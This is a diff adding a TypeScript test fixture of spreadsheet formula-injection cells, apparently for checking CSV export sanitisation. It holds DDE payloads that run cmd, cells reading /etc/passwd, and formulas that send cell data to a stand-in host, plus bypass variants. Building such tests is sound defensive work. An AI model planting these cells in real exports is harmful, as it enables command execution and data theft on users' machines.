@@ -1,0 +1,68 @@
+/** Cells that a spreadsheet would run, ask the network for, or split. Source: OWASP, "CSV Injection"; the DDE forms are Excel's. */
+import { PAYLOADS } from '../support/payloads.ts';
+
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '=HYPERLINK("http://elsewhere.example/?"&A1,"Aisha Khan")',
+  '=WEBSERVICE("http://elsewhere.example/")',
+  '=IMPORTXML("http://elsewhere.example/","//a")',
+  '=IMAGE("http://elsewhere.example/a.png")',
+  '=DDE("soffice";"/etc/passwd";"A1")',
+  "='file:///etc/passwd'#$passwd.A1",
+  "=cmd|'/C calc'!A0",
+  "+cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A",
+  '=1+1+cmd|" /C calc"!A0',
+  '=IFERROR(1/0;"x")',
+  '={1;2}',
+  '==1+1',
+  '=+1+1',
+  '+=1+1',
+  '-@SUM(1)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+] as const;
+
+const BEFORE = [
+  '\t',
+  '\r',
+  '\n',
+  ' ',
+  '\u00A0',
+  '\uFEFF',
+  '\u200B',
+  '"',
+  "'",
+  'x;',
+  'x\t',
+  'x\n',
+  'x\r\n',
+  'x,',
+  'x; ',
+  'x;"',
+  '";"',
+  '","',
+  ';',
+  ',,',
+];
+
+/** Each formula alone, after what spreadsheets pass over or split at, and before more of a row. */
+export const HOSTILE_CELLS: readonly string[] = [
+  ...FORMULAS,
+  ...FORMULAS.slice(0, 6).flatMap((formula) => BEFORE.flatMap((before) => [before + formula, `${before}${formula};x`])),
+  '-',
+  '+44 20 7946 0000',
+  '|=1+1',
+  '%0A=1+1',
+  '\u22121+1',
+  'Day-Lewis',
+  'Zoë Zieliński',
+  ...PAYLOADS.map(({ text }) => text),
+];
